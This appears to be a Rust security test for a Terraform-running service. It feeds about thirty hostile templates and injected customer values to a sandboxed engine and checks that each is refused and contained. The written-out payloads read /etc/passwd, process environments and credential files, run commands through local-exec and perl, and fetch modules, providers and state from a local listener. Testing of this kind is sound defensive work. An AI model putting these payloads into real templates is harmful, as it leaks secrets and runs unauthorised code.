//! What a hostile template, a module or a value of a customer tries, each in a run of a real Terraform as the engine runs
//! it. That such a template is refused when it is read is one wall; here it is taken away, so that the other one is seen.
//! Where anybody's Terraform can do it, it is shown to be done there.

use std::collections::BTreeMap;
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::mpsc::{Receiver, channel};

use serde_json::json;
use wanwright_schemas::Digest;
use wanwright_schemas::order::{Desired, Intent, Order};
use wanwright_vendors::{Catalogue, TerraformTemplate, Vendor, Vendors};

use super::archive::States;
use super::foreign::tests::{VendorFolder, World};
use super::tests::{is_confined, servers};

/// What nobody may see: in files, and as the name of one.
const SECRET: &str = "canary-secret";

/// What is tried: its name, the HCL, and whether anybody's Terraform can do it on this machine.
struct Attempt {
    name: &'static str,
    hcl: String,
    /// What the site is called; where it says something else than a name, the control has it pasted into the template.
    value: &'static str,
    backend: &'static str,
    control: bool,
}

/// Something of the machine as the value of an output.
fn leak(name: &'static str, expression: &str) -> Attempt {
    body(name, format!("locals {{\n  leak = {expression}\n}}"))
}

/// Something that is done on the way.
fn does(name: &'static str, hcl: &str) -> Attempt {
    body(name, format!("locals {{\n  leak = \"none\"\n}}\n{hcl}"))
}

fn body(name: &'static str, hcl: String) -> Attempt {
    Attempt { name, hcl, value: "oslo", backend: "backend \"http\" {}", control: true }
}

/// A value of a customer that is HCL itself.
fn value(name: &'static str, value: &'static str) -> Attempt {
    Attempt { value, ..leak(name, "var.site.name") }
}

fn provisioner(name: &'static str, of: &str) -> Attempt {
    does(name, &format!("resource \"terraform_data\" \"x\" {{\n{of}\n}}"))
}

fn module(name: &'static str, source: &str) -> Attempt {
    leak(name, &format!("module.x.leak\n}}\nmodule \"x\" {{\n  source = \"{source}\""))
}

/// Everything that is tried. `KEY`, `SECRETS`, `WORK`, `MARKS`, `PORT`, `PID` and `UP` stand for what is known only then.
fn attempts() -> Vec<Attempt> {
    let connection = "connection {\n type = \"ssh\"\n host = \"127.0.0.1\"\n port = PORT\n user = \"x\"\n password = \"x\"\n timeout = \"1s\"\n}";
    let remote = |config: &str| format!("\n}}\ndata \"terraform_remote_state\" \"x\" {{\n{config}");
    vec![
        leak("file: the machine's users", "file(\"/etc/passwd\")"),
        leak("file: the machine's users, through /proc", "file(\"/proc/self/root/etc/passwd\")"),
        leak("templatefile: the key of all states", "templatefile(\"KEY\", {})"),
        leak("file: the key of all states, by climbing", "file(\"../../../state.key\")"),
        leak("filesha256: whether the key is a certain one", "filesha256(\"KEY\")"),
        leak("filebase64: the vendor's credential", "base64decode(filebase64(\"SECRETS/credential\"))"),
        leak("file: the values of another run", "file(\"WORK/runs/other/variables.json\")"),
        leak("file: the state of another stack", "file(\"WORK/spool/other.7.conflict\")"),
        leak("fileset: the folders of all runs", "join(\",\", fileset(\"WORK/runs\", \"**\"))"),
        leak("file: its own environment", "file(\"/proc/self/environ\")"),
        leak("file: the executor's environment", "file(\"/proc/PID/environ\")"),
        provisioner("local-exec: a shell", "provisioner \"local-exec\" {\n command = \"touch MARKS/x\"\n}"),
        provisioner(
            "local-exec: an interpreter",
            "provisioner \"local-exec\" {\n interpreter = [\"/usr/bin/perl\", \"-e\"]\n command = \"open(F, '>', 'MARKS/x')\"\n}",
        ),
        provisioner(
            "local-exec: a daemon",
            "provisioner \"local-exec\" {\n command = \"setsid touch MARKS/x < /dev/null > /dev/null 2>&1; true\"\n}",
        ),
        provisioner(
            "remote-exec: this machine by SSH",
            &format!("{connection}\nprovisioner \"remote-exec\" {{\n inline = [\"true\"]\n}}"),
        ),
        provisioner(
            "file provisioner: the users to a host",
            &format!(
                "{connection}\nprovisioner \"file\" {{\n source = \"/etc/passwd\"\n destination = \"/x\"\n}}"
            ),
        ),
        module("module: a folder of the machine", "SECRETS/module"),
        module("module: a folder by climbing", "UPsecrets/module"),
        module("module: an archive by HTTP", "http://127.0.0.1:PORT/m.zip"),
        module("module: a repository by Git", "git::http://127.0.0.1:PORT/m.git"),
        module("module: a registry", "127.0.0.1:PORT/a/b/c"),
        does(
            "provider: a registry",
            "terraform {\n required_providers {\n  x = { source = \"localhost:PORT/a/b\" }\n }\n}",
        ),
        Attempt {
            control: false,
            ..does(
                "provider: our own, elsewhere than at the gateway",
                "provider \"wanwright\" {\n base_url = \"http://127.0.0.1:PORT\"\n}\nresource \"wanwright_simwan_site\" \"x\" {\n \
                 name = \"x\"\n lan = [\"10.0.0.0/24\"]\n location = \"\"\n idempotency_key = \"x\"\n}",
            )
        },
        Attempt { backend: "backend \"local\" {\n path = \"MARKS/state\"\n}", ..does("backend: a file", "") },
        Attempt {
            backend: "backend \"http\" {\n address = \"http://127.0.0.1:PORT/state\"\n}",
            ..does("backend: another host", "")
        },
        leak(
            "remote state: another stack's file",
            &format!(
                "data.terraform_remote_state.x.outputs.leak{}",
                remote("backend = \"local\"\nconfig = { path = \"SECRETS/state.json\" }")
            ),
        ),
        leak(
            "remote state: another host",
            &format!(
                "jsonencode(data.terraform_remote_state.x.outputs){}",
                remote("backend = \"http\"\nconfig = { address = \"http://127.0.0.1:PORT/s\" }")
            ),
        ),
        // The providers for these two are nowhere on this machine, and may come from nowhere.
        Attempt {
            control: false,
            ..leak(
                "external: a program",
                "data.external.x.result.leak\n}\ndata \"external\" \"x\" {\n program = [\"/bin/cat\", \"SECRETS/credential\"]",
            )
        },
        Attempt {
            control: false,
            ..leak(
                "http: a host",
                "data.http.x.response_body\n}\ndata \"http\" \"x\" {\n url = \"http://127.0.0.1:PORT\"",
            )
        },
        value("value: a function", "${file(\"/etc/passwd\")}"),
        value(
            "value: a block",
            "\"\n}\nresource \"terraform_data\" \"y\" {\n provisioner \"local-exec\" {\n command = \"touch MARKS/x\"\n }\n input = \"",
        ),
    ]
}

/// Where everything is.
struct Place {
    dir: PathBuf,
    port: u16,
    /// Who connected to that port, in this order.
    connections: Receiver<SocketAddr>,
    /// Any of these in what a run says or leaves is a secret that got out.
    secrets: Vec<String>,
}

impl Place {
    fn new(dir: &Path) -> Self {
        let write = |name: &str, text: &str| {
            let path = dir.join(name);
            std::fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
            std::fs::write(path, text).expect("a file");
        };
        write("work/runs/other/variables.json", SECRET);
        write("work/runs/other/canary-secret.tf", "");
        write("work/spool/other.7.conflict", SECRET);
        write("secrets/credential", SECRET);
        write("secrets/module/credential", SECRET);
        write(
            "secrets/module/main.tf",
            "output \"leak\" {\n  value = file(\"${path.module}/credential\")\n}\n",
        );
        let outputs = json!({ "leak": { "value": SECRET, "type": "string" } });
        let state = json!({ "version": 4, "terraform_version": "1.5.0", "serial": 1, "lineage": "l", "outputs": outputs, "resources": [] });
        write("secrets/state.json", &state.to_string());
        std::fs::create_dir(dir.join("marks")).expect("a folder");
        let key = std::fs::read(dir.join("state.key")).expect("a key");
        let digest = Digest::of(&key).to_string();
        let key = String::from_utf8_lossy(&key).into_owned();
        let key = key.split_whitespace().max_by_key(|word| word.len()).expect("a key").to_owned();
        let plain = [SECRET, "root:x:0", "TF_IN_AUTOMATION=", "CARGO_MANIFEST_DIR="].map(str::to_owned);
        let digest = digest["sha256:".len()..].to_owned();
        let secrets = plain.into_iter().chain([key, digest]).collect();
        let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a port");
        let port = listener.local_addr().expect("an address").port();
        let (accepted, connections) = channel();
        // Whoever gets through is noted, and answered nothing.
        std::thread::spawn(move || {
            let peers = listener.incoming().flatten().filter_map(|stream| stream.peer_addr().ok());
            peers.map(|peer| accepted.send(peer)).take_while(Result::is_ok).for_each(drop);
        });
        Self { dir: dir.to_owned(), port, connections, secrets }
    }

    fn filled(&self, text: &str, up: &str) -> String {
        let path = |name: &str| self.dir.join(name).display().to_string();
        text.replace("KEY", &path("state.key"))
            .replace("SECRETS", &path("secrets"))
            .replace("WORK", &path("work"))
            .replace("MARKS", &path("marks"))
            .replace("PORT", &self.port.to_string())
            .replace("PID", &std::process::id().to_string())
            .replace("UP", up)
    }

    /// How many connections there were since this was asked last: those before one of our own.
    fn connected(&self) -> usize {
        let own = TcpStream::connect(("127.0.0.1", self.port)).expect("a connection");
        let own = own.local_addr().expect("an address");
        self.connections.iter().take_while(|peer| *peer != own).count()
    }

    /// What got out since this was asked last.
    fn escaped(&self, said: &str) -> Option<&'static str> {
        let connections = self.connected();
        let marks = std::fs::read_dir(self.dir.join("marks")).expect("a folder").flatten();
        let marks: Vec<PathBuf> = marks.map(|entry| entry.path()).collect();
        for mark in &marks {
            std::fs::remove_file(mark).expect("removed");
        }
        let secret = self.secrets.iter().find(|secret| said.contains(*secret)).map(|_| ());
        match (secret, marks.len(), connections) {
            (None, 0, 0) => None,
            (Some(()), ..) => Some("escaped: a secret"),
            (None, 0, _) => Some("escaped: a connection"),
            (None, ..) => Some("escaped: a file"),
        }
    }
}

/// The whole template of an attempt.
fn template(attempt: &Attempt, required: &str, backend: &str) -> String {
    let Attempt { hcl, .. } = attempt;
    format!(
        "terraform {{\n{required}\n{backend}\n}}\nvariable \"site\" {{\n  type = any\n}}\nvariable \"tunnels\" {{\n  type = any\n}}\n{hcl}\n\
         output \"site\" {{\n  value = {{ id = \"1\", address = \"192.0.2.1\", leak = local.leak }}\n}}\noutput \"tunnels\" {{\n  value = {{}}\n}}\n"
    )
}

const REQUIRED: &str = "  required_providers {\n    wanwright = { source = \"wanwright/wanwright\" }\n  }";

/// What anybody's Terraform makes of it, with nothing taken away: all that it says and leaves.
fn unconfined(place: &Place, attempt: &Attempt, number: usize) -> String {
    let dir = place.dir.join(format!("plain/runs/{number}"));
    std::fs::create_dir_all(&dir).expect("a folder");
    // A system that pastes values into templates would have this one.
    let pasted = attempt.hcl.replace("var.site.name", &format!("\"{}\"", attempt.value));
    let pasted = Attempt { hcl: pasted, ..body(attempt.name, String::new()) };
    let backend = if attempt.backend.contains("PORT") || attempt.backend.contains("MARKS") {
        attempt.backend
    } else {
        ""
    };
    let text = place.filled(&template(&pasted, "", backend), "../../../");
    std::fs::write(dir.join("main.tf"), text).expect("a file");
    let variables = json!({ "site": { "name": "oslo" }, "tunnels": {} }).to_string();
    std::fs::write(dir.join("terraform.tfvars.json"), variables).expect("a file");
    let mut said = String::new();
    for args in
        [&["init", "-input=false", "-no-color"][..], &["apply", "-auto-approve", "-input=false", "-no-color"]]
    {
        let mut terraform = Command::new("terraform");
        let variables = [
            ("TF_IN_AUTOMATION", "1"),
            ("CHECKPOINT_DISABLE", "1"),
            ("TF_HTTP_RETRY_MAX", "0"),
            ("TF_REGISTRY_CLIENT_TIMEOUT", "2"),
        ];
        let output = terraform.args(args).current_dir(&dir).envs(variables).output().expect("Terraform");
        said += &String::from_utf8_lossy(&output.stdout);
    }
    said + &std::fs::read_to_string(dir.join("terraform.tfstate")).unwrap_or_default()
}

/// Whether the vendor's folder is refused with this template in it.
fn is_refused(place: &Place, attempt: &Attempt) -> bool {
    let dir = place.dir.join("refused");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir(&dir).expect("a folder");
    let folder = VendorFolder::new(&dir);
    folder.write("terraform/main.tf", &place.filled(&template(attempt, REQUIRED, attempt.backend), ""));
    Catalogue::load(dir.join("vendors")).is_err()
}

/// The vendor with this template, which nobody has looked through.
fn vendor_with(place: &Place, vendor: &Vendor, attempt: &Attempt, number: usize) -> Vendor {
    let dir = place.dir.join(format!("templates/{number}"));
    std::fs::create_dir_all(&dir).expect("a folder");
    let text = place.filled(&template(attempt, REQUIRED, attempt.backend), "../../../../");
    std::fs::write(dir.join("main.tf"), &text).expect("a file");
    let digest = Digest::of(text.as_bytes()).to_string()["sha256:".len()..].to_owned();
    let contents = BTreeMap::from([("main.tf".to_owned(), text.into_bytes())]);
    let template = TerraformTemplate {
        dir,
        files: contents.keys().cloned().collect(),
        contents: Arc::new(contents),
        digest,
        providers: Vec::new(),
        ..vendor.terraform.clone().expect("a template")
    };
    Vendor { terraform: Some(template), ..vendor.clone() }
}

/// All that a run of ours says and leaves.
async fn confined(world: &World, vendor: &Vendor, order: &Order) -> String {
    let (outcome, _) = world.run_with(vendor, order, 1).await;
    let Desired::Site { site, .. } = &order.desired else { panic!("{order:?}") };
    let servers = &world.servers;
    let states = States::new(servers.store.pool.clone(), servers.nats.clone(), servers.store.keys.clone());
    let state = states.version(&site.uid.to_string(), None).await.expect("asked");
    let state = state.map(|state| String::from_utf8_lossy(&state.body).into_owned()).unwrap_or_default();
    format!("{outcome:?}\n{:?}\n{state}", world.records(order).await)
}

fn order(attempt: &Attempt, number: usize, place: &Place) -> Order {
    let mut order = World::order(number, Intent::Apply);
    if let Desired::Site { site, .. } = &mut order.desired {
        site.name = place.filled(attempt.value, "");
    }
    order
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_a_hostile_template_tries_it_is_refused_and_would_not_get_it() {
    if !is_confined() {
        return;
    }
    let servers = servers().await;
    let dir = servers.dir.path().to_owned();
    VendorFolder::new(&dir);
    let vendors = Vendors::open(dir.join("vendors")).expect("the vendors' folders");
    let vendor = World::vendor(&dir, 0).await;
    let world = World::of(servers, vendors, vendor, dir.join("mirror")).await;
    let place = Place::new(&dir);
    let vendors = world.vendors.snapshot();
    let vendor = vendors.get("simwan").expect("the vendor");
    // What it is for still works.
    let plain = vendor_with(&place, vendor, &does("nothing", ""), 0);
    assert!(confined(&world, &plain, &World::order(0, Intent::Apply)).await.starts_with("Done"));
    let mut failures = Vec::new();
    println!("{:<52} {:<9} {:<9} Terraform's own", "attempt of a template", "read", "run");
    let attempts = attempts();
    for (number, attempt) in (1..).zip(&attempts) {
        let name = attempt.name;
        let is_value = name.starts_with("value:");
        let refused = is_refused(&place, attempt);
        let vendor = vendor_with(&place, vendor, attempt, number);
        let said = confined(&world, &vendor, &order(attempt, number, &place)).await;
        let escaped = place.escaped(&said);
        let free = match attempt.control {
            true => place.escaped(&unconfined(&place, attempt, number)),
            false => Some("not tried"),
        };
        let word = |is: bool, one: &'static str, other: &'static str| if is { one } else { other };
        println!(
            "{name:<52} {:<9} {:<9} {}",
            word(refused, "refused", "taken"),
            word(escaped.is_none(), "blocked", "escaped"),
            free.unwrap_or("blocked")
        );
        if let Some(what) = escaped {
            failures.push(format!("{name}: {what}"));
        }
        if refused == is_value {
            failures.push(format!("{name}: refused when it is read: {refused}"));
        }
        if free.is_none() {
            failures.push(format!("{name}: not even anybody's Terraform does it"));
        }
        // A value is only a text, whatever it says.
        if is_value && !said.starts_with("Done") {
            failures.push(format!("{name}: {said}"));
        }
    }
    println!("{} attempts, none got through", attempts.len());
    assert_eq!(failures, [""; 0]);
    assert!(attempts.len() >= 30);
}
